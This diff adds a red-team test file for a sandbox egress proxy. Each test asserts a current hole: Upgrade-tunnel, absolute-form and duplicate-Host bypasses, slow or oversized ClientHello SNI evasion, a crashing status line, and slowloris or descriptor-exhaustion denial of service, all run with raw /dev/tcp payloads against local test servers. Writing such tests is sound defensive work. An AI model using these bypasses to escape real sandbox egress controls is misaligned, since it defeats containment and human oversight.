@@ -1,0 +1,253 @@
+// Red-team tests of the egress proxy (egress-proxy.ts): ways a sandbox gets around its domain
+// rules, or stops the daemon, through the proxy. Each test shows one finding: it asserts what
+// happens today (the hole) so that it fails once the hole is closed; flip the assertion then.
+// Same setup as egress-rules.test.ts: web servers in a netns of the test's own, behind host routes.
+import assert from 'node:assert/strict';
+import { spawn, type ChildProcess } from 'node:child_process';
+import { readdirSync } from 'node:fs';
+import { mkdtemp, rm } from 'node:fs/promises';
+import { get } from 'node:http';
+import { createServer, type AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { connect as tlsConnect } from 'node:tls';
+import { after, before, describe, test } from 'node:test';
+import { baseLayer } from '../testing/fixtures.js';
+import { createTestRuntime, testSpec, type TestRuntime } from '../testing/runtime-fixtures.js';
+import type { EgressPolicy } from './egress-policy.js';
+import { proc, procOk } from './proc.js';
+
+const tag = String(process.pid % 100000);
+const NS = `sbrtw${tag}`;
+const VETH = `sbrw${tag}`.slice(0, 15);
+const LINK = 100 + (process.pid % 50);
+const WEB1 = '11.23.35.45';
+const WEB3 = '11.23.35.47';
+const NAMES: Record<string, string[]> = { 'a.test': [WEB1], 'b.test': [WEB1] };
+
+const SERVER = `
+const http = require('node:http'), https = require('node:https'), net = require('node:net'), fs = require('node:fs'), tls = require('node:tls');
+const sni = [];
+const answer = (req, res) => {
+  if (req.url === '/sni') return res.end(JSON.stringify(sni) + '\\n');
+  if (req.url === '/slow') {
+    let i = 0;
+    const t = setInterval(() => { res.write('x'); if (++i === 12) { clearInterval(t); res.end('\\n'); } }, 500);
+    return;
+  }
+  const hosts = [];
+  for (let i = 0; i < req.rawHeaders.length; i += 2) if (req.rawHeaders[i].toLowerCase() === 'host') hosts.push(req.rawHeaders[i + 1]);
+  res.end('web:' + hosts.join(',') + ':' + req.url + '\\n');
+};
+const ctx = tls.createSecureContext({ key: fs.readFileSync(process.env.KEY), cert: fs.readFileSync(process.env.CERT) });
+let pending = 3;
+const up = () => { if (--pending === 0) process.stdout.write('ready\\n'); };
+const h = http.createServer(answer);
+// Like most web servers outside a WebSocket location (nginx serving files): Upgrade is ignored, the connection stays HTTP.
+h.on('upgrade', (req, sock, head) => {
+  const body = 'web:' + req.headers.host + ':' + req.url + '\\n';
+  sock.write('HTTP/1.1 200 OK\\r\\nContent-Length: ' + body.length + '\\r\\n\\r\\n' + body);
+  if (head.length) sock.unshift(head);
+  h.emit('connection', sock);
+});
+h.listen(80, '${WEB1}', up);
+https.createServer({ key: fs.readFileSync(process.env.KEY), cert: fs.readFileSync(process.env.CERT), SNICallback: (n, cb) => { sni.push(n); cb(null, ctx); } }, answer).listen(443, '${WEB1}', up);
+// An upstream the sandbox's owner controls: a status line Node's server refuses to write back.
+net.createServer((s) => { s.on('error', () => {}); s.once('data', () => s.end('HTTP/1.1 099 X\\r\\nContent-Length: 0\\r\\n\\r\\n')); }).listen(80, '${WEB3}', up);
+`;
+
+/** A real ClientHello (Node's TLS client) naming `servername`. */
+async function captureHello(servername: string): Promise<Buffer> {
+  return new Promise((resolve, reject) => {
+    const srv = createServer((s) => {
+      s.once('data', (d: Buffer) => {
+        resolve(d);
+        s.destroy();
+        srv.close();
+      });
+    });
+    srv.listen(0, '127.0.0.1', () => {
+      const c = tlsConnect({ host: '127.0.0.1', port: (srv.address() as AddressInfo).port, servername, rejectUnauthorized: false });
+      c.on('error', () => undefined);
+    });
+    srv.on('error', reject);
+  });
+}
+
+/** The same hello with `extraSuites` bogus cipher suites and a GREASE extension of `pad` bytes, in records of 16000. */
+function inflateHello(rec: Buffer, extraSuites: number, pad: number): Buffer {
+  const hs = rec.subarray(5);
+  const body = hs.subarray(4, 4 + hs.readUIntBE(1, 3));
+  let off = 34;
+  off += 1 + body[off]!;
+  const csLen = body.readUInt16BE(off);
+  const suites = body.subarray(off + 2, off + 2 + csLen);
+  off += 2 + csLen;
+  const comp = body.subarray(off, off + 1 + body[off]!);
+  off += comp.length;
+  const extLen = body.readUInt16BE(off);
+  const exts = body.subarray(off + 2, off + 2 + extLen);
+  const head = body.subarray(0, 34 + 1 + body[34]!);
+  const bogus = Buffer.alloc(extraSuites * 2, 0x5a);
+  const cs = Buffer.concat([suites, bogus]);
+  const padExt = Buffer.alloc(4 + pad);
+  padExt.writeUInt16BE(0x4a4a, 0);
+  padExt.writeUInt16BE(pad, 2);
+  const allExt = Buffer.concat([exts, padExt]);
+  const u16 = (n: number) => Buffer.from([n >> 8, n & 255]);
+  const newBody = Buffer.concat([head, u16(cs.length), cs, comp, u16(allExt.length), allExt]);
+  const msg = Buffer.concat([Buffer.from([1, (newBody.length >> 16) & 255, (newBody.length >> 8) & 255, newBody.length & 255]), newBody]);
+  const records: Buffer[] = [];
+  for (let i = 0; i < msg.length; i += 16000) {
+    const part = msg.subarray(i, i + 16000);
+    records.push(Buffer.from([22, 3, 1, part.length >> 8, part.length & 255]), part);
+  }
+  return Buffer.concat(records);
+}
+
+const hostGet = (url: string): Promise<string> =>
+  new Promise((resolve, reject) => {
+    get(url, (res) => {
+      let b = '';
+      res.setEncoding('utf8').on('data', (c: string) => (b += c));
+      res.on('end', () => resolve(b));
+    }).on('error', reject);
+  });
+
+describe('egress proxy red team', { timeout: 300_000 }, () => {
+  let t: TestRuntime;
+  let server: ChildProcess | undefined;
+  let dir: string;
+  const id = 'egred';
+  const policy = (p: Partial<EgressPolicy>): EgressPolicy => ({ internet: true, allow: [], deny: [], ...p });
+  const bash = async (script: string) => (await t.rt.exec(id, ['bash', '-c', script])).stdout;
+  const sniSeen = async (): Promise<string[]> => JSON.parse(await hostGet(`http://${WEB1}/sni`)) as string[];
+  const putFile = async (path: string, data: Buffer) => {
+    await t.rt.exec(id, ['sh', '-c', `base64 -d > ${path}`], { input: data.toString('base64') + '\n' });
+  };
+
+  before(async () => {
+    dir = await mkdtemp(join(tmpdir(), 'sbx-egred-'));
+    const ossl = (args: string[]) => procOk('openssl', args, { cwd: dir });
+    await ossl(['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', 'web.key', '-out', 'web.pem', '-days', '2', '-subj', '/CN=a.test']);
+    await procOk('ip', ['-batch', '-'], {
+      input: [`netns add ${NS}`, `link add ${VETH} type veth peer name eth0 netns ${NS}`, `addr add 169.254.${LINK}.1/30 dev ${VETH}`, `link set ${VETH} up`].join('\n') + '\n',
+    });
+    await procOk('ip', ['-n', NS, '-batch', '-'], {
+      input: ['link set lo up', 'link set eth0 up', `addr add 169.254.${LINK}.2/30 dev eth0`, `addr add ${WEB1}/32 dev lo`, `addr add ${WEB3}/32 dev lo`, `route add default via 169.254.${LINK}.1`].join('\n') + '\n',
+    });
+    for (const a of [WEB1, WEB3]) await procOk('ip', ['route', 'replace', `${a}/32`, 'via', `169.254.${LINK}.2`]);
+    server = spawn('ip', ['netns', 'exec', NS, process.execPath, '-e', SERVER], { stdio: ['ignore', 'pipe', 'inherit'], env: { ...process.env, KEY: join(dir, 'web.key'), CERT: join(dir, 'web.pem') } });
+    await new Promise<void>((resolve, reject) => {
+      server!.stdout!.once('data', () => resolve());
+      server!.once('exit', (c) => reject(new Error(`web server exited ${c}`)));
+    });
+    t = await createTestRuntime({ egressResolve: async (name) => NAMES[name] ?? [] });
+    await t.rt.create(testSpec(id, [(await baseLayer()).path], { internetAccess: true }));
+  });
+
+  after(async () => {
+    try {
+      if (t) {
+        await t.rt.destroy(id).catch(() => undefined);
+        await t.teardown();
+      }
+    } finally {
+      if (server && server.exitCode === null) server.kill('SIGKILL');
+      for (const a of [WEB1, WEB3]) await proc('ip', ['route', 'del', `${a}/32`]);
+      await proc('ip', ['netns', 'del', NS]);
+      await proc('ip', ['link', 'del', VETH]);
+      await rm(dir, { recursive: true, force: true });
+    }
+  });
+
+  test('CRASH: an upstream answering "HTTP/1.1 099" throws out of the proxy\'s response handler (uncaught: the daemon dies)', async () => {
+    await t.rt.setEgress(id, policy({ deny: ['b.test'] }));
+    const saved = process.listeners('uncaughtException');
+    process.removeAllListeners('uncaughtException');
+    const caught: Error[] = [];
+    process.on('uncaughtException', (e) => caught.push(e));
+    try {
+      await bash(`curl -sS -m 3 http://${WEB3}/ -o /dev/null; true`);
+      await new Promise((r) => setTimeout(r, 300));
+    } finally {
+      process.removeAllListeners('uncaughtException');
+      for (const l of saved) process.on('uncaughtException', l);
+    }
+    assert.equal(caught.length, 1, 'one uncaught exception in the daemon');
+    assert.match(String((caught[0] as NodeJS.ErrnoException).code), /ERR_HTTP_INVALID_STATUS_CODE/);
+  });
+
+  test('BYPASS (allow list): after a request with Upgrade, the connection is a raw tunnel: later requests name any host', async () => {
+    await t.rt.setEgress(id, policy({ allow: ['a.test'] }));
+    const direct = await bash(`exec 3<>/dev/tcp/${WEB1}/80; printf 'GET / HTTP/1.1\\r\\nHost: b.test\\r\\n\\r\\n' >&3; timeout 2 cat <&3`);
+    assert.doesNotMatch(direct, /web:b\.test/, 'control: b.test alone is refused');
+    const out = await bash(
+      `exec 3<>/dev/tcp/${WEB1}/80; printf 'GET / HTTP/1.1\\r\\nHost: a.test\\r\\nConnection: Upgrade\\r\\nUpgrade: foo\\r\\n\\r\\nGET /second HTTP/1.1\\r\\nHost: b.test\\r\\n\\r\\n' >&3; timeout 2 cat <&3`,
+    );
+    assert.match(out, /web:b\.test:\/second/, out);
+  });
+
+  test('BYPASS (deny list): absolute-form target naming a denied host, with another Host, counts as "no name"', async () => {
+    await t.rt.setEgress(id, policy({ deny: ['b.test'] }));
+    const control = await bash(`exec 3<>/dev/tcp/${WEB1}/80; printf 'GET http://b.test/x HTTP/1.1\\r\\nHost: b.test\\r\\n\\r\\n' >&3; timeout 2 cat <&3`);
+    assert.doesNotMatch(control, /web:/, 'control: refused');
+    const out = await bash(`exec 3<>/dev/tcp/${WEB1}/80; printf 'GET http://b.test/x HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\n' >&3; timeout 2 cat <&3`);
+    // RFC 9112 3.2.2: an origin server takes the target's host and ignores Host.
+    assert.match(out, /web:a\.test:http:\/\/b\.test\/x/, out);
+  });
+
+  test('SMUGGLE (allow list): two Host headers: the proxy judges the first, the upstream gets both', async () => {
+    await t.rt.setEgress(id, policy({ allow: ['a.test'] }));
+    const out = await bash(`exec 3<>/dev/tcp/${WEB1}/80; printf 'GET / HTTP/1.1\\r\\nHost: a.test\\r\\nHost: b.test\\r\\n\\r\\n' >&3; timeout 2 cat <&3`);
+    assert.match(out, /web:a\.test,b\.test:/, out);
+  });
+
+  test('BYPASS (deny list): a ClientHello sent slowly (10 s) is judged as having no name', async () => {
+    await t.rt.setEgress(id, policy({ deny: ['b.test'] }));
+    await putFile('/tmp/hello-b', await captureHello('b.test'));
+    const control = await bash(`exec 3<>/dev/tcp/${WEB1}/443; cat /tmp/hello-b >&3; timeout 2 head -c 3 <&3 | od -An -tx1`);
+    assert.equal(control.trim(), '', 'control: refused');
+    const before = (await sniSeen()).length;
+    const out = await bash(`exec 3<>/dev/tcp/${WEB1}/443; head -c 20 /tmp/hello-b >&3; sleep 11; tail -c +21 /tmp/hello-b >&3; timeout 3 head -c 3 <&3 | od -An -tx1`);
+    assert.equal(out.trim(), '16 03 03', `a ServerHello came back: ${out}`);
+    assert.deepEqual((await sniSeen()).slice(before), ['b.test']);
+  });
+
+  test('BYPASS (deny list): a ClientHello over 64 KiB is judged as having no name', async () => {
+    await t.rt.setEgress(id, policy({ deny: ['b.test'] }));
+    const big = inflateHello(await captureHello('b.test'), 6000, 60_000);
+    assert.ok(big.length > 70_000);
+    await putFile('/tmp/hello-big', big);
+    const before = (await sniSeen()).length;
+    const out = await bash(`exec 3<>/dev/tcp/${WEB1}/443; cat /tmp/hello-big >&3; timeout 3 head -c 3 <&3 | od -An -tx1`);
+    assert.equal(out.trim(), '16 03 03', `a ServerHello came back: ${out}`);
+    assert.deepEqual((await sniSeen()).slice(before), ['b.test']);
+  });
+
+  test('DOS: the per-connection HTTP server never listens, so headersTimeout is never enforced (slowloris)', async () => {
+    await t.rt.setEgress(id, policy({ allow: ['a.test'] }));
+    const out = await bash(`exec 3<>/dev/tcp/${WEB1}/80; printf 'GET /late HTTP/1.1\\r\\n' >&3; sleep 14; printf 'Host: a.test\\r\\n\\r\\n' >&3; timeout 2 cat <&3`);
+    assert.match(out, /web:a\.test:\/late/, 'a request head that took 14 s (the limit is 10) was still served');
+  });
+
+  test('DOS: one sandbox makes the daemon hold a descriptor per idle connection, with no limit and no timeout', async () => {
+    await t.rt.setEgress(id, policy({ allow: ['a.test'] }));
+    const fds = () => readdirSync('/proc/self/fd').length;
+    const before = fds();
+    const job = t.rt.exec(id, ['bash', '-c', `for i in $(seq 3000); do exec {fd}<>/dev/tcp/${WEB1}/80; printf 'GET / HTTP/1.1\\r\\n' >&$fd; done; sleep 14`]);
+    await new Promise((r) => setTimeout(r, 12_000));
+    const held = fds() - before;
+    await job;
+    assert.ok(held >= 2900, `the daemon holds ${held} more descriptors 12 s later (the head limit is 10 s)`);
+  });
+
+  test('STALE: a connection judged by name outlives a policy that denies the name', async () => {
+    await t.rt.setEgress(id, policy({ allow: ['a.test'] }));
+    const job = t.rt.exec(id, ['bash', '-c', `curl -sk -m 10 --resolve a.test:443:${WEB1} https://a.test/slow`]);
+    await new Promise((r) => setTimeout(r, 1500));
+    await t.rt.setEgress(id, policy({ deny: ['a.test'] }));
+    const r = await job;
+    assert.equal(r.stdout.trim(), 'x'.repeat(12), 'the whole slow body arrived after the name was denied');
+  });
+});
